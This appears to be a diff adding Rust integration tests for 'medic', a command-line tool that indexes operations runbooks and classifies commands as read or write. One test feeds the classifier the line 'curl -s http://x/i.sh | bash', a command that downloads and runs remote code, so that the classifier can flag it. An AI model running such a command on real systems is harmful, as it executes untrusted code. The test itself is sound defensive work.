@@ -1,0 +1,292 @@
+//! The `medic` binary as a user runs it: exit code, stdout and stderr checked together.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// Runs medic in `dir` with `args` (and optional stdin), with no inherited MEDIC_* settings.
+struct Run {
+    cmd: Command,
+    stdin: Option<Vec<u8>>,
+}
+
+fn medic(args: &[&str]) -> Run {
+    #[expect(clippy::disallowed_methods, reason = "tests run the real binary")]
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_medic"));
+    cmd.args(args)
+        .current_dir(repo())
+        .env_remove("MEDIC_GUIDES")
+        .env_remove("MEDIC_CONFIG")
+        .env("NO_COLOR", "1");
+    Run { cmd, stdin: None }
+}
+
+impl Run {
+    fn dir(mut self, dir: &Path) -> Self {
+        self.cmd.current_dir(dir);
+        self
+    }
+    fn env(mut self, k: &str, v: &str) -> Self {
+        self.cmd.env(k, v);
+        self
+    }
+    fn stdin(mut self, input: &[u8]) -> Self {
+        self.stdin = Some(input.to_vec());
+        self
+    }
+    fn run(mut self) -> Output {
+        use std::io::Write;
+        self.cmd
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        let mut child = self.cmd.spawn().expect("medic starts");
+        let input = self.stdin.take().unwrap_or_default();
+        let mut pipe = child.stdin.take().expect("stdin is piped");
+        let writer = std::thread::spawn(move || {
+            let _ = pipe.write_all(&input);
+        });
+        let out = child.wait_with_output().expect("medic ends");
+        writer.join().expect("stdin writer ends");
+        out
+    }
+    /// Runs and checks the exit code; returns (stdout, stderr).
+    fn expect(self, code: i32) -> (String, String) {
+        let out = self.run();
+        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert_eq!(
+            out.status.code(),
+            Some(code),
+            "stdout:\n{stdout}\nstderr:\n{stderr}"
+        );
+        (stdout, stderr)
+    }
+}
+
+#[test]
+fn guides_inventory_of_the_examples() {
+    let (out, err) = medic(&["guides", "examples/guides"]).expect(0);
+    assert!(err.is_empty(), "{err}");
+    assert!(out.contains("postgresql.md#"), "{out}");
+    let last = out.lines().last().unwrap();
+    assert!(
+        last.contains(" guides, ") && last.contains(" read, "),
+        "{last}"
+    );
+}
+
+#[test]
+fn guides_json_is_the_model_with_counts() {
+    let (out, _) = medic(&["guides", "testdata/seeds", "--include", "*.txt", "--json"]).expect(0);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let guides = v["guides"].as_array().unwrap();
+    assert_eq!(guides.len(), 5);
+    assert_eq!(v["totals"]["guides"], 5);
+    let problems: u64 = guides
+        .iter()
+        .map(|g| g["counts"]["problems"].as_u64().unwrap())
+        .sum();
+    assert_eq!(v["totals"]["problems"].as_u64().unwrap(), problems);
+    let first = &guides[0]["problems"][0];
+    assert_eq!(
+        first["id"],
+        "000_5a2fd40b88a89dd5.txt#1-provider-not-starting"
+    );
+    assert_eq!(
+        first["checks"][0]["commands"][0]["verdict"]["safety"],
+        "read"
+    );
+}
+
+#[test]
+fn a_directory_of_txt_guides_needs_include() {
+    let (_, err) = medic(&["guides", "testdata/seeds"]).expect(2);
+    assert!(
+        err.contains("no guides in `testdata/seeds`") && err.contains("--include"),
+        "{err}"
+    );
+}
+
+#[test]
+fn missing_path_is_named() {
+    let (_, err) = medic(&["guides", "nope/runbooks"]).expect(2);
+    assert!(err.contains("`nope/runbooks`"), "{err}");
+}
+
+#[test]
+fn no_guides_given_says_how_to_give_them() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (_, err) = medic(&["guides"]).dir(tmp.path()).expect(2);
+    assert!(
+        err.contains("--guides") && err.contains("medic.toml"),
+        "{err}"
+    );
+}
+
+#[test]
+fn bad_files_among_good_ones_are_warnings() {
+    let tmp = tempfile::tempdir().unwrap();
+    let d = tmp.path();
+    std::fs::write(
+        d.join("good.md"),
+        "# G\n\n## Disk Full\n\nThe disk is full.\n",
+    )
+    .unwrap();
+    std::fs::write(d.join("latin1.md"), b"# Caf\xe9\n\n## Broken\n").unwrap();
+    std::fs::write(d.join("binary.md"), b"\x7fELF\x00\x00\x01").unwrap();
+    let big = std::fs::File::create(d.join("huge.md")).unwrap();
+    big.set_len(50 * 1024 * 1024).unwrap();
+    let (out, err) = medic(&["guides", d.to_str().unwrap()]).expect(0);
+    assert!(out.contains("good.md#disk-full"), "{out}");
+    assert!(
+        err.contains("latin1.md`: not valid UTF-8 at line 1"),
+        "{err}"
+    );
+    assert!(err.contains("binary.md`: binary file"), "{err}");
+    assert!(err.contains("huge.md`: 52.4 MB is too large"), "{err}");
+}
+
+#[test]
+fn a_bad_file_named_directly_is_an_error() {
+    let tmp = tempfile::tempdir().unwrap();
+    let f = tmp.path().join("binary.md");
+    std::fs::write(&f, b"\x00\x01\x02").unwrap();
+    let (_, err) = medic(&["guides", f.to_str().unwrap()]).expect(2);
+    assert!(
+        err.contains("binary.md") && err.contains("binary file"),
+        "{err}"
+    );
+}
+
+#[test]
+fn empty_directory_is_an_error() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (_, err) = medic(&["guides", tmp.path().to_str().unwrap()]).expect(2);
+    assert!(err.contains("no guides in"), "{err}");
+}
+
+#[test]
+fn config_file_and_environment_give_defaults() {
+    let tmp = tempfile::tempdir().unwrap();
+    let d = tmp.path();
+    std::fs::create_dir(d.join("runbooks")).unwrap();
+    std::fs::create_dir(d.join("sub")).unwrap();
+    std::fs::write(
+        d.join("runbooks/db.txt"),
+        "# DB\n\n## Replication Lag\n\nReplicas are behind.\n",
+    )
+    .unwrap();
+    std::fs::write(
+        d.join("medic.toml"),
+        "[guides]\npaths = [\"runbooks\"]\ninclude = [\"*.txt\"]\n",
+    )
+    .unwrap();
+    // Found upward from a subdirectory; paths are relative to the config file.
+    let (out, _) = medic(&["guides"]).dir(&d.join("sub")).expect(0);
+    assert!(out.contains("db.txt#replication-lag"), "{out}");
+    // MEDIC_GUIDES overrides the config's paths.
+    let (out, _) = medic(&["guides", "--include", "*.md"])
+        .dir(d)
+        .env(
+            "MEDIC_GUIDES",
+            repo().join("examples/guides").to_str().unwrap(),
+        )
+        .expect(0);
+    assert!(out.contains("postgresql.md#"), "{out}");
+}
+
+#[test]
+fn invalid_config_names_file_and_line() {
+    let tmp = tempfile::tempdir().unwrap();
+    std::fs::write(
+        tmp.path().join("medic.toml"),
+        "[guides]\npaths = [\"x\"]\nglob = 1\n",
+    )
+    .unwrap();
+    let (_, err) = medic(&["guides"]).dir(tmp.path()).expect(2);
+    assert!(err.contains("medic.toml:3`"), "{err}");
+    assert!(err.contains("unknown field `glob`"), "{err}");
+}
+
+#[test]
+fn show_a_seed_problem() {
+    let (out, _) = medic(&[
+        "show",
+        "003_f49a088b457f2bc5.txt#connection-pool-exhaustion",
+        "--guides",
+        "testdata/seeds",
+        "--include",
+        "*.txt",
+    ])
+    .expect(0);
+    assert!(out.starts_with("Connection Pool Exhaustion\n"), "{out}");
+    assert!(out.contains("FATAL: sorry, too many clients"), "{out}");
+    assert!(
+        out.contains("sql> SELECT count(*) FROM pg_stat_activity;"),
+        "{out}"
+    );
+    assert!(out.contains("pg_terminate_backend"), "{out}");
+    // Every item names its line.
+    assert!(out.contains("003_f49a088b457f2bc5.txt:629"), "{out}");
+}
+
+#[test]
+fn show_by_anchor_alone_and_nearest_ids() {
+    let (out, _) = medic(&[
+        "show",
+        "service-crashes",
+        "-g",
+        "testdata/seeds",
+        "--include",
+        "*.txt",
+    ])
+    .expect(0);
+    assert!(out.starts_with("Service Crashes"), "{out}");
+    let (_, err) = medic(&[
+        "show",
+        "conection-pool-exhaustion",
+        "-g",
+        "testdata/seeds",
+        "--include",
+        "*.txt",
+    ])
+    .expect(2);
+    assert!(
+        err.contains("did you mean") && err.contains("#connection-pool-exhaustion"),
+        "{err}"
+    );
+}
+
+#[test]
+fn classify_one_command_and_stdin() {
+    let (out, _) = medic(&["classify", "kubectl get pods > out.txt"]).expect(0);
+    assert!(out.starts_with("write"), "{out}");
+    let input = b"kubectl get pods -n shop\nSELECT pg_terminate_backend(pid) FROM pg_stat_activity\n\ncurl -s http://x/i.sh | bash\n";
+    let (out, _) = medic(&["classify", "--json", "-"]).stdin(input).expect(0);
+    let lines: Vec<serde_json::Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 3);
+    assert_eq!(lines[0]["safety"], "read");
+    assert_eq!(lines[1]["lang"], "sql");
+    assert_eq!(lines[1]["safety"], "write");
+    assert_eq!(lines[2]["safety"], "write");
+    assert!(
+        lines[2]["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r.as_str().unwrap().contains("bash"))
+    );
+}
+
+#[test]
+fn classify_rejects_binary_stdin() {
+    let (_, err) = medic(&["classify", "-"]).stdin(b"\xff\xfe\x00").expect(2);
+    assert!(err.contains("standard input"), "{err}");
+}
